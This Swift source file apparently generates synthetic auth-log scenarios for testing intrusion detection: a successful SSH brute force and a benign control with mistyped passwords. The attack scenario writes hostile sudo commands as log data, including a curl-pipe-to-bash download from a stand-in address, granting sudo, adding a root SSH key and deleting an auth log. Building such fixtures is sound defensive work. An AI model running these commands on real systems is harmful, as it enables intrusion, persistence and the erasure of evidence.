import VedetteEvent

extension Scenario {
  /// Passwords guessed until one fits, and what is done with it.
  static let sshBruteForce = Scenario(
    name: "ssh-brute-force",
    title: "SSH brute force that succeeds",
    isBenign: false,
    content: SSHBruteForce.attack
  )

  /// People who mistype, each a little, and administrators at work.
  static let sshBruteForceBenign = Scenario(
    name: "ssh-brute-force-benign",
    title: "Mistyped passwords and administrators at work",
    isBenign: true,
    content: SSHBruteForce.ordinary
  )
}

/// Three hours of four machines, on one of which an address guesses passwords.
enum SSHBruteForce {
  private static let first = EventTime.at(8, 0)
  private static let last = EventTime.at(11, 0)
  private static let intruder = "203.0.113.66"

  static func attack(seed: UInt64) -> ScenarioContent {
    var log = background(seed: seed)
    let times = writeGuesses(to: &log, seed: seed)
    writeIntrusion(to: &log, from: times.last)
    let end = times.last.plus(minutes: 14).plus(seconds: 1)
    let label = AttackLabel(
      attack: "ssh-brute-force-1",
      kind: "ssh brute force that succeeds",
      first: times.first.plus(seconds: -2),
      last: end.wholeSecond,
      entities: [
        LabelledEntity(type: "ip", value: intruder),
        LabelledEntity(type: "user", value: "deploy"),
        LabelledEntity(type: "host", value: "web01"),
      ],
      severityMin: "high"
    )
    return ScenarioContent(
      logs: [authLog(log)],
      labels: [label],
      incidents: 1...2,
      rules: [
        .sshBruteForce, .sshBruteForceSuccess, .downloadAndRun, .userMadeAdministrator,
        .logsRemoved,
      ],
      story: """
        \(intruder) guesses passwords on web01 from 10:14, is let in as deploy at about 10:27, runs a
        downloaded script through sudo, makes deploy an administrator, adds a key for root and
        removes a log. Around it: cron, configuration management, an office behind one address, and
        a few guesses from each of eighteen other addresses.
        """
    )
  }

  static func ordinary(seed: UInt64) -> ScenarioContent {
    var log = background(seed: seed)
    let workers = HomeWorkers(logins: People.remote, mistakesMax: 4)
    workers.write(to: &log, seed: seed, from: first, to: last)
    writeAdministration(to: &log)
    return ScenarioContent(
      logs: [authLog(log)],
      labels: [],
      incidents: 0...0,
      rules: [],
      story: """
        Sixty-two people log in from home and mistype their passwords one to four times each, which
        makes as many refused passwords as in the attack. An administrator downloads a package,
        puts a user into a group, reads and removes files. Everything else is the same.
        """
    )
  }

  private static func authLog(_ log: AuthLog) -> ScenarioLog {
    ScenarioLog(
      path: "auth.log",
      format: "syslog",
      summary: "sshd, sudo, cron and logind of four machines, RFC 3164",
      bytes: log.bytes
    )
  }

  private static func background(seed: UInt64) -> AuthLog {
    var log = AuthLog(chance: Chance(seed: seed, stream: "auth.log"))
    let hosts = ["bastion01", "web01", "web02", "db01"]
    HostLife(hosts: hosts, first: first, last: last).write(to: &log, seed: seed)
    return log
  }

  /// Writes about 150 guesses and returns when the first was made and the password was found.
  private static func writeGuesses(
    to log: inout AuthLog,
    seed: UInt64
  ) -> (first: EventTime, last: EventTime) {
    var chance = Chance(seed: seed, stream: "guesses")
    let names = ["root", "admin", "deploy", "ubuntu", "test", "git"]
    let start = EventTime.at(10, 14, 7)
    var time = start
    for _ in 0..<132 {
      let name = chance.pick(names)
      log.refusedPassword(
        SSHLogin(user: name, host: "web01", address: intruder),
        isKnown: name == "root" || name == "deploy",
        repeats: chance.happens(percent: 8) ? 2 : 0,
        at: time
      )
      time = time.plus(milliseconds: chance.integer(in: 4_000...7_500))
    }
    return (start, time)
  }

  private static func writeIntrusion(to log: inout AuthLog, from start: EventTime) {
    let login = SSHLogin(user: "deploy", host: "web01", address: intruder)
    log.session(login, from: start, to: start.plus(minutes: 14))
    let commands = [
      "/usr/bin/id",
      "/usr/bin/bash -c curl -fsSL http://203.0.113.66/i.sh | bash",
      "/usr/sbin/usermod -aG sudo deploy",
      "/usr/bin/tee -a /root/.ssh/authorized_keys",
      "/usr/bin/rm -f /var/log/auth.log.1",
    ]
    for (index, command) in commands.enumerated() {
      let time = start.plus(seconds: 70 + index * 130)
      log.sudo(command, by: "deploy", on: "web01", at: time)
    }
  }

  private static func writeAdministration(to log: inout AuthLog) {
    let start = EventTime.at(10, 20)
    let login = SSHLogin(
      user: "anna",
      host: "web01",
      address: People.office,
      keyFingerprint: People.fingerprint(of: "anna")
    )
    log.session(login, from: start, to: start.plus(minutes: 20))
    let commands = [
      "/usr/bin/id",
      "/usr/bin/curl -fsSLo /srv/agent.deb https://packages.example.com/agent.deb",
      "/usr/bin/dpkg -i /srv/agent.deb",
      "/usr/sbin/usermod -aG docker emil",
      "/usr/bin/tee -a /etc/motd",
      "/usr/bin/less /var/log/auth.log.1",
      "/usr/bin/rm -f /srv/agent.deb",
    ]
    for (index, command) in commands.enumerated() {
      let time = start.plus(seconds: 70 + index * 130)
      log.sudo(command, by: "anna", on: "web01", at: time)
    }
  }
}
